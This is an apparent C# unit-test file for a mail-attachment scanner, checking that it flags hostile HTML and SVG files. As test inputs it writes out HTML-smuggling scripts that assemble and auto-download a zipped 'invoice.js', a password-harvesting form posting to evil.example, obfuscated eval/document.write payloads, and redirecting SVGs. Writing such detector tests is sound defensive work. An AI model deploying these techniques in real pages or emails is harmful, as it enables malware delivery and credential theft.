using System.Text;
using Deeplia.Mail.Attachments.Files;
using Deeplia.Tests.Mail.Attachments.Making;

namespace Deeplia.Tests.Mail.Attachments.Web;

public sealed class WebFileTests
{
    private const string Page = "<html><body><form action='https://evil.example/p' method=post><input type=password name=p></form></body></html>";
    private static readonly string Packed = Convert.ToBase64String(OfficeMaker.Zip(("invoice.js", [.. FileMaker.Script, .. Noise(600)])));

    public static TheoryData<string> Smugglers() =>
    [
        $"<script>var d='{Packed}';var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);var a=document.createElement('a');"
            + "a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click();</script>",
        $"<a id=a download='invoice.zip' href='data:application/zip;base64,{Packed}'></a><script>document.getElementById('a').click()</script>",
        $"<script>navigator.msSaveOrOpenBlob(new Blob([h('{Convert.ToHexString(Convert.FromBase64String(Packed))}')]),'invoice.zip');function h(s){{return parseInt(s)}}</script>",
        $"<svg xmlns='http://www.w3.org/2000/svg'><script>var x=atob('{Packed}');"
            + "var a=document.createElement('a');a.setAttribute('download','a.zip');a.href=URL.createObjectURL(new Blob([x]))</script></svg>",
        $"<script>var k='{Convert.ToBase64String(Noise(3_000))}';var u=new Uint8Array(atob(k).length);var b=new Blob([u]);l.href=URL.createObjectURL(b);l.download='a.iso'</script>",
    ];

    public static TheoryData<string, string> Honest() => new()
    {
        { "ticket.html", "<html><h1>Ticket</h1><p>Coach 4, seat 61.</p><a href='https://rail.example/t'>Your booking</a></html>" },
        { "invoice.html", "<html><table><tr><td>Total</td><td>120,00</td></tr></table><script>window.print()</script></html>" },
        { "news.html", "<html><script>document.getElementById('y').innerHTML = new Date().getFullYear()</script><p>" + new string('n', 500) + "</p></html>" },
        { "chart.html", $"<html><p>{new string('n', 500)}</p>"
            + $"<script>var img='{Convert.ToBase64String([0x89, (byte)'P', (byte)'N', (byte)'G', .. Noise(900)])}';new Blob([atob(img)]);a.download='chart.png'</script></html>" },
        { "search.html", "<html><form action='https://shop.example/s'><input name=q></form></html>" },
        { "flame.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>function s(e){var p=window.location.search;document.title=p}</script><g onclick='s(e)'/></svg>" },
        { "logo.svg", "<svg xmlns='http://www.w3.org/2000/svg'><circle r='4'/></svg>" },
        { "embedded.html", $"<html><style>@font-face{{src:url(data:font/woff2;base64,{Convert.ToBase64String([.. "wOF2"u8, .. Noise(900)])})}}</style>"
            + $"<script>x.innerHTML='a'</script><p>{new string('n', 500)}</p></html>" },
    };

    [Theory]
    [MemberData(nameof(Smugglers))]
    public void A_page_that_builds_a_file_is_seen(string page) =>
        Assert.Contains(FileSign.Smuggling, Look.Signs("invoice.html", Encoding.UTF8.GetBytes(page)));

    [Fact]
    public void The_file_built_is_looked_into() => Assert.Contains(
        Look.At("invoice.html", Encoding.UTF8.GetBytes(Smugglers().First().Data)).Signs,
        s => s.Path == "invoice.html › invoice.zip › invoice.js" && s.Sign == FileSign.Script);

    [Theory]
    [MemberData(nameof(Honest))]
    public void An_honest_page_has_no_signs(string name, string page) => Assert.Empty(Look.Signs(name, Encoding.UTF8.GetBytes(page)));

    [Fact]
    public void A_form_for_a_password_is_seen_with_its_place() =>
        Assert.Equal("evil.example", Look.First("a.htm", Encoding.UTF8.GetBytes(Page), FileSign.PasswordForm).Detail);

    [Theory]
    [InlineData("<script>document.write(atob('{0}'))</script>", "base64")]
    [InlineData("<script>document.write(unescape('{0}'))</script>", "escapes")]
    [InlineData("<script>eval(String.fromCharCode({0}))</script>", "numbers")]
    public void A_page_that_writes_what_it_hides_is_seen_and_read(string shell, string shape)
    {
        var inner = Encoding.UTF8.GetBytes(Page + new string(' ', 200));
        var hidden = shape switch
        {
            "base64" => Convert.ToBase64String(inner),
            "escapes" => string.Concat(inner.Select(b => $"%{b:X2}")),
            _ => string.Join(',', inner),
        };
        var signs = Look.Signs("a.htm", Encoding.UTF8.GetBytes(shell.Replace("{0}", hidden)));
        Assert.Contains(FileSign.HiddenPage, signs);
        Assert.Contains(FileSign.PasswordForm, signs);
    }

    [Theory]
    [InlineData("<meta http-equiv=refresh content='0;url=https://evil.example/x'>")]
    [InlineData("<html><script>window.location.href='https://evil.example/x'</script></html>")]
    [InlineData("<html><body onload=\"location.replace('https://evil.example/x')\"></body></html>")]
    public void A_page_that_only_leads_on_is_seen(string page) =>
        Assert.Equal("evil.example", Look.First("a.htm", Encoding.UTF8.GetBytes(page), FileSign.Redirect).Detail);

    [Theory]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg'><script>window.location.href='https://evil.example'</script></svg>")]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg' onload=\"window.open('https://evil.example')\"></svg>")]
    [InlineData("<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe src='https://evil.example'></iframe><script>1</script></foreignObject></svg>")]
    public void A_drawing_that_acts_is_seen(string drawing) =>
        Assert.Contains(FileSign.ActiveDrawing, Look.Signs("logo.svg", Encoding.UTF8.GetBytes(drawing)));

    [Fact]
    public void Links_and_words_of_a_page_can_be_read_by_others()
    {
        var seen = Look.At("a.html", "<html><p>Pay now</p><a href='https://pay.example/1'>here</a></html>"u8.ToArray());
        Assert.Equal("https://pay.example/1", Assert.Single(seen.Links).Url);
        Assert.Contains("Pay now", Assert.Single(seen.Texts).Text, StringComparison.Ordinal);
    }

    private static byte[] Noise(int count)
    {
        var bytes = new byte[count];
        new Random(7).NextBytes(bytes);
        return bytes;
    }
}
